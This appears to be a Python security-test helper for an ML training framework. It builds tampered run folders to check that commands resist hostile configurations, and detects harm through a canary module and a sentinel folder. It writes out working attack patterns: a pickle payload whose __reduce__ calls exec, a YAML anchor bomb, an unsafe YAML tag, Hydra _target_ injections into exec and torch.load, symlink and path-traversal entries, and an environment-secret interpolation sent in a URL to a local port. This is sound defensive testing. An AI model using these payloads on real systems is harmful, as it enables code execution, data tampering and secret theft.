"""Run folders as somebody with bad intentions would make them, each with one attack.

Every place of the configuration of a real run is attacked with a function, a class of another kind, a class from
outside and a value that names an environment variable; then come files beside the configuration. What an attack does is
seen afterwards: `canary.py` writes a file when it is imported, called or built, the folder `sentinel` must stay as it
is, and the value of CANARY_SECRET must stand nowhere.
"""

import copy
import os
import pickle
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

SECRET = "canary-secret-7391"
SENTINEL = {"metrics.csv": "step,epoch,split,name,value\n1,0,val,loss,0.5\n", "notes.txt": "precious\n"}
CANARY = '''"""Leaves a trace wherever it is run."""
import os
from pathlib import Path

def alarm(*arguments, **options):
    Path(os.environ["CANARY_TRACE"]).write_text("executed")

alarm()
Canary = alarm
'''
Attack = Callable[[Path, "Ground"], None]


@dataclass(frozen=True)
class Ground:
    """Where attacks take place.

    Attributes:
        work: folder of the hostile runs.
        sentinel: folder that nobody names on a command line.
        plug: on PYTHONPATH, with the canary.
        trace: written by the canary.
    """

    work: Path
    sentinel: Path
    plug: Path
    trace: Path

    @staticmethod
    def make(folder: Path) -> "Ground":
        """Prepare the folders below `folder`."""
        ground = Ground(folder / "work", folder / "sentinel", folder / "plug", folder / "trace")
        ground.work.mkdir(parents=True)
        ground.plug.mkdir()
        (ground.plug / "canary.py").write_text(CANARY)
        ground.restore()
        return ground

    def restore(self) -> None:
        """Undo what an attack has done."""
        shutil.rmtree(self.sentinel, ignore_errors=True)
        self.sentinel.mkdir()
        for name, text in SENTINEL.items():
            (self.sentinel / name).write_text(text)
        self.trace.unlink(missing_ok=True)

    def variables(self) -> dict[str, str]:
        """What the commands find in their environment."""
        path = os.pathsep.join([os.environ.get("PYTHONPATH", ""), str(self.plug)])
        return {"PYTHONPATH": path, "CANARY_SECRET": SECRET, "CANARY_TRACE": str(self.trace)}

    def harm(self) -> list[str]:
        """What the attacks have done so far."""
        found = ["executed"] if self.trace.exists() else []
        now = {str(path.relative_to(self.sentinel)): path for path in self.sentinel.rglob("*")}
        same = {name for name, text in SENTINEL.items() if name in now and now[name].read_text() == text}
        found += [f"touched {name}" for name in sorted((now.keys() | SENTINEL) - same)]
        for path in self.work.rglob("*"):
            if path.is_file() and not path.is_symlink() and SECRET.encode() in path.read_bytes():
                found.append(f"read into {path}")
        return found


def places(node: Any, key: str = "") -> Iterator[str]:
    """The dotted key of every part of a configuration that names a class."""
    for name, child in node.items() if isinstance(node, dict) else ():
        place = f"{key}.{name}" if key else str(name)
        if isinstance(child, dict):
            if "_target_" in child:
                yield place
            yield from places(child, place)


NEW_PLACES = (
    *("callback.evil", "logger.evil", "trainer.profiler", "trainer.strategy", "trainer.plugins", "trainer.extra"),
    *("loss.extra", "model.extra", "model.architecture.extra", "data.augment", "data.extra", "evaluator.checker"),
    *("metric.metrics.evil", "evaluate.targets", "monitor.extra", "sampler", "hydra.callbacks.evil", "adapter.targets"),
)
"""Where a run has no class, and an attacker would put one."""


def put(settings: dict[str, Any], key: str, value: Any) -> None:
    """Set a value by its dotted key, and make what is above it."""
    *above, name = key.split(".")
    for part in above:
        if not isinstance(settings.get(part), dict):
            settings[part] = {}
        settings = settings[part]
    settings[name] = value


def nodes(key: str, ground: Ground) -> dict[str, dict[str, Any]]:
    """What is put at a place, by the name of the attack."""
    journal = {"path": str(ground.sentinel / "metrics.csv")}
    kind = "arena.loss.classification.Focal" if key.startswith("logger") else "arena.logger.journal.Journal"
    arguments = {"labels": ["a", "b"]} if key.startswith("logger") else journal
    found: dict[str, dict[str, Any]] = {
        "function": {"_target_": "arena.logger.journal.rewind", **journal, "step": -1},
        "sender": {"_target_": "arena.logger.sender.answers", "url": "http://127.0.0.1:9/${oc.env:CANARY_SECRET}"},
        "kind": {"_target_": kind, **arguments},
        "outside": {"_target_": "canary.Canary"},
    }
    if "." in key and not key.startswith("metric"):
        found |= {
            "writer": {"_target_": "arena.core.run.write_atomically", **journal, "text": "evil"},
            "pickle": {"_target_": "torch.load", "f": str(ground.plug / "evil.pt"), "weights_only": False},
            "partial": {"_target_": "canary.alarm", "_partial_": True},
            "arguments": {"_target_": "builtins.exec", "_args_": ["import canary"]},
        }
    return found


def values(ground: Ground) -> dict[str, Any]:
    """Values by dotted key that read or write elsewhere."""
    return {
        "data.rejects": str(ground.sentinel / "notes.txt"),
        "data.cache": str(ground.sentinel),
        "run_dir": str(ground.sentinel),
        "callback.predictions.folder": str(ground.sentinel),
        "callback.checkpoint.folder": str(ground.sentinel),
        "logger.journal": {"_target_": "arena.logger.journal.Journal", "path": str(ground.sentinel / "metrics.csv")},
        "logger.csv": {"_target_": "lightning.pytorch.loggers.CSVLogger", "save_dir": str(ground.sentinel)},
        "callback.saver": {
            "_target_": "lightning.pytorch.callbacks.ModelCheckpoint", "dirpath": str(ground.sentinel),
            "save_last": True,
        },
        "trainer.profiler": {
            "_target_": "lightning.pytorch.profilers.SimpleProfiler", "dirpath": str(ground.sentinel), "filename": "x",
        },
        "trainer.default_root_dir": str(ground.sentinel),
        "evaluator.checker": {"kind": "callable", "module": "canary", "function": "alarm", "allow": ["canary"]},
        "model.package": "canary.part",
        "tokenizer.package": "canary.part",
        "study": "${oc.env:CANARY_SECRET}",
        "tags": ["${oc.env:CANARY_SECRET}", "${oc.decode:${oc.env:CANARY_SECRET}}"],
        "data.missing_text": "${oc.env:CANARY_SECRET}",
        "trusted_packages": ["canary"],
        "accept_versions": True,
    }  # fmt: skip


class _Evil:
    def __reduce__(self) -> tuple[Any, ...]:
        return exec, ("import canary",)


def _evil(path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.write_bytes(pickle.dumps(_Evil()))
    (path.parent / "manifest.json").unlink(missing_ok=True)


def _link(name: str, target: str = "") -> Attack:
    def attack(run: Path, ground: Ground) -> None:
        place = run / name
        if place.is_dir() and not place.is_symlink():
            shutil.rmtree(place)
        place.unlink(missing_ok=True)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.symlink_to(ground.sentinel / target)

    return attack


def _text(name: str, text: str) -> Attack:
    def attack(run: Path, ground: Ground) -> None:
        (run / name).parent.mkdir(parents=True, exist_ok=True)
        (run / name).write_text(text.replace("SENTINEL", str(ground.sentinel)))

    return attack


BOMB = "a0: &a0 [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 12)
)
EVIL_OVERRIDE = "'+hydra.callbacks.evil={_target_: canary.Canary}'"
FILES: dict[str, Attack] = {
    "best pickle": lambda run, ground: _evil(run / "checkpoints" / "best.ckpt"),
    "last pickle": lambda run, ground: _evil(run / "checkpoints" / "last.ckpt"),
    "predictions pickle": lambda run, ground: _evil(run / "predictions" / "val.parquet"),
    "bomb": _text("config.yaml", BOMB),
    "deep": _text("config.yaml", "[" * 200_000),
    "tag": _text("config.yaml", "data: !!python/object/apply:canary.alarm []\n"),
    "overrides": _text(".hydra/overrides.yaml", f"- {EVIL_OVERRIDE}\n"),
    "hydra": _text(".hydra/hydra.yaml", "hydra: {callbacks: {evil: {_target_: canary.Canary}}}\n"),
    "hydra config": _text(".hydra/config.yaml", "loss: {_target_: canary.Canary}\n"),
    "synced": _text("wandb/synced.json", '{"folder": "../../../sentinel", "digest": "x", "id": "y"}'),
    "synced absolute": _text("wandb/synced.json", '{"folder": "SENTINEL", "digest": "x", "id": "y"}'),
    "tokenizer code": _text(
        "tokenizer/tokenizer_config.json", '{"auto_map": {"AutoTokenizer": ["canary.Canary", null]}}'
    ),
    "calibration": _text("calibration.json", '{"_target_": "canary.Canary"}'),
    **{f"link {name}": _link(name, "notes.txt") for name in (".lock", "run.log", "result.json", "rejects.jsonl")},
    "link metrics.csv": _link("metrics.csv", "metrics.csv"),
    **{f"link {name}": _link(name) for name in ("evaluation", "predictions", "report", "wandb", "comparison")},
}


BUILD_NOTHING = ("compare", "report", "checkpoint")
"""Commands that build nothing of the configuration that is attacked."""


def attacks(settings: dict[str, Any], ground: Ground) -> Iterator[tuple[str, Attack]]:
    """Every attack on a run of a configuration, with its name."""

    def changed(key: str, value: Any) -> Attack:
        def attack(run: Path, ground: Ground) -> None:
            hostile = copy.deepcopy(settings)
            put(hostile, key, value)
            (run / "config.yaml").write_text(yaml.safe_dump(hostile, sort_keys=False, allow_unicode=True))

        return attack

    for key in (*places(settings), *NEW_PLACES):
        for name, node in nodes(key, ground).items():
            yield f"{key}: {name}", changed(key, node)
    for key, value in values(ground).items():
        yield f"{key}: value", changed(key, value)
    for key in places(settings):
        yield f"{key}: interpolation", changed(f"{key}.interpolated", "${oc.env:CANARY_SECRET}")
    yield from FILES.items()


def hostile(run: Path, name: str, attack: Attack, ground: Ground) -> Path:
    """A copy of a run with an attack in it."""
    place = ground.work / "".join(c if c.isalnum() else "_" for c in name) / "run"
    shutil.copytree(run, place, symlinks=True)
    attack(place, ground)
    return place


def commands(run: str, clean: str, kind: str, rows: str) -> dict[str, list[str]]:
    """Every command that reads a run, typed for one: module and arguments, with `out` as the place for what it writes.

    `clean` is another run of the kind, which nobody has changed.
    """
    steps = ["trainer.max_steps=14", "accept_versions=true"]
    found = {
        "resume": ["train", f"resume={run}", *steps],
        "evaluate": ["evaluate", f"run={run}", "resamples=0"],
        "checkpoint": ["evaluate", f"run={clean}", f"checkpoint={run}/checkpoints/best.ckpt", "output=out"],
        "calibrate": ["calibrate", f"run={run}", "resamples=0"],
        "predict": ["predict", f"run={run}", f"data.path={rows}", "output=out.csv"],
        "average": ["export", f"run=[{clean},{run}]", "average=true", "output=out"],
        "export": ["export", f"run={run}", "output=out"],
        "compare": ["compare", f"base={clean}", f"other={run}", "resamples=100", "output=out", "split=test"],
        "wandb": ["report", run, "wandb=true"],
        "report": ["report", str(Path(run).parent), "output=out"],
    }
    judging = ("calibrate", "predict", "export")
    return {name: command for name, command in found.items() if kind != "replies" or name not in judging}
